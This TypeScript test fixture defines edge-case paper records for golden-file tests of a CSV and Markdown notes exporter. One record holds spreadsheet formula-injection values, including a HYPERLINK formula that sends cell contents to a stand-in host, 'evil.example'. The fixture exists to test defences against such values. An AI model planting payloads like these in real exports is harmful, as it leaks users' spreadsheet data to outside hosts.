import { newPaper, type Annotation, type Note, type Paper } from '../../../../shared/model/library';

const day = (n: number) => `2026-02-${String(n).padStart(2, '0')}T09:30:00.000Z`;

function note(id: string, body: string, created: number, updated = created): Note {
  return { id, body, createdAt: day(created), updatedAt: day(updated) };
}

function highlight(id: string, page: number, y: number, quote: string, extra: Partial<Annotation> = {}): Annotation {
  return { id, attachmentId: 'pdf-1', page, rects: [[72, y, 400, 12]], quote, color: 'yellow', createdAt: day(1), ...extra };
}

/**
 * Hand-made papers for the CSV and Markdown notes exporters' golden files: cells a spreadsheet
 * would run as formulas, text that CSV must quote, titles that YAML must quote, and titles and keys
 * that are no file name as they stand. Change them and regenerate the golden files
 * (see csv-and-notes-golden.test.ts).
 */
export function edgeCasePapers(): Paper[] {
  return [
    newPaper(
      {
        id: 'commas',
        type: 'article',
        title: 'Cats, Dogs, and "Other" Pets: a Study',
        authors: [
          { family: 'Zola', given: 'Émile' },
          { family: 'King', given: 'Martin Luther, Jr.' },
        ],
        year: 2019,
        venue: 'Journal of Pets, Vol. 3',
        doi: '10.1000/xyz_123',
        tags: ['method/rct', 'to read'],
        status: 'read',
        screening: { decision: 'include', decidedAt: day(3) },
        abstract: 'First paragraph, with "quotes".\nSame paragraph.\n\n# Not a heading\n\n- not a list, 50% == %%hidden%% $x$ <b>bold</b>',
        notes: [
          note('n1', 'My **first** note, linking [Injection](sift:paper/formulas) and [the web](https://example.org).', 4),
          note('n2', 'Edited later.\n\n- a list item', 5, 7),
        ],
        annotations: [
          highlight('h2', 4, 300, 'A later quote\nacross lines', { comment: 'Why *this* matters', tags: ['key', 'method/rct'] }),
          highlight('h1', 2, 100, 'An early quote with [brackets] and `code`'),
        ],
      },
      day(1),
    ),
    newPaper(
      {
        id: 'formulas',
        type: 'inproceedings',
        title: '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
        authors: [{ literal: '@SUM(1+1)' }, { family: '+1', given: '' }],
        year: 2021,
        venue: '-2',
        doi: '@doi',
        tags: ['=cmd', '+plus'],
        status: 'reading',
        screening: { decision: 'exclude', reason: 'Wrong population: adults', reasonId: 'r1' },
        citationKey: 'con',
      },
      day(2),
    ),
    newPaper(
      {
        id: 'tabs',
        type: 'misc',
        title: '\tTabbed title',
        authors: [{ family: 'Tab' }],
        venue: '\rcarriage',
        tags: ['＝fullwidth'],
        citationKey: 'NUL.draft',
      },
      day(3),
    ),
    newPaper(
      {
        id: 'yaml-title',
        type: 'article',
        title: '- [x] {braces} & *star* !tag %pct @at `tick` #hash: yes',
        authors: [{ family: 'Müller', given: 'Jörg' }],
        year: 2020,
        arxivId: '1706.03762',
        url: 'https://example.org/paper?id=1&x=%20y#top',
        citationKey: 'Müller:2020/a*b?',
      },
      day(4),
    ),
    newPaper({ id: 'bool-title', type: 'article', title: 'No', authors: [], year: 2020, venue: '', tags: [] }, day(5)),
    newPaper({ id: 'number-title', type: 'article', title: '1e3', authors: [], citationKey: 'no2020' }, day(6)),
    newPaper(
      {
        id: 'unicode',
        type: 'article',
        title: 'Über naïve Café-Schätzungen: 日本語のタイトル, emoji 🧪 and Dvořák',
        authors: [{ family: '山田', given: '太郎' }],
        year: 2022,
        venue: 'Revue française',
        citationKey: 'yamada2022',
        abstract: 'Ünïcödé abstract 🧪.',
      },
      day(7),
    ),
    newPaper(
      {
        id: 'empty',
        type: 'misc',
        title: '',
        authors: [],
      },
      day(8),
    ),
    newPaper(
      {
        id: 'long',
        type: 'article',
        title: `${'A very long title that goes on and on '.repeat(8)}end.`,
        authors: [{ family: 'Long' }],
        year: 2023,
        citationKey: `${'k'.repeat(100)}`,
      },
      day(9),
    ),
    newPaper({ id: 'clash-a', type: 'article', title: 'Clash', authors: [], citationKey: 'Smith2020' }, day(10)),
    newPaper({ id: 'clash-b', type: 'article', title: 'Clash again', authors: [], citationKey: 'smith2020' }, day(11)),
    newPaper({ id: 'dots', type: 'article', title: 'Trailing', authors: [], citationKey: '.hidden.' }, day(12)),
  ];
}
